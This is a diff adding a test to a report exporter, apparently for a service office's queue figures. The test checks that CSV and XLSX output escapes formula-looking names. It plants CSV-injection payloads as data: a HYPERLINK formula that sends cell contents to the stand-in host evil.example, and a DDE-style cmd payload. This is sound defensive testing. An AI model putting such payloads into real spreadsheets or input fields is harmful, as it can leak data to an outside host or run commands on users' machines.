@@ -84,6 +84,23 @@ def test_xlsx_has_report_hours_counters_and_charts(day1, tmp_path):
     assert "<v>8.5</v>" in sheet1  # minutes stored as numbers, not text
 
 
+def test_a_name_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(day1, tmp_path):
+    """A name from a site file or a centre's feed opened by the head in Excel or LibreOffice: text,
+    never a formula that runs or a link (CSV injection)."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Hộ tịch")'
+    rep = json.loads(json.dumps(day1))
+    rep["rows"][0]["label"] = evil
+    rep["counter_load"][0]["officer"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    rows = list(csv.reader(io.StringIO(report_render.write_csv(rep, tmp_path / "r.csv").read_bytes().decode("utf-8-sig"))))
+    assert rows[1][0] == "'" + evil and rows[1][1] == "3"  # the figures stay numbers
+    assert report_render.csv_text("-") == "'-" and report_render.csv_text(-1.5) == -1.5
+    with zipfile.ZipFile(report_render.write_xlsx(rep, tmp_path / "r.xlsx")) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+        strings = z.read("xl/sharedStrings.xml").decode()
+    assert not any("<f>" in x or "<hyperlink" in x for x in sheets)  # no formula or link cell anywhere
+    assert "HYPERLINK" in strings and "@SUM" in strings  # the names, as text
+
+
 def test_charts_are_pngs_and_empty_periods_still_draw(day1, story_ledger, site):
     pngs = report_charts.chart_pngs(day1)
     assert set(pngs) == {"arrivals-per-hour", "wait-distribution", "counter-load"}
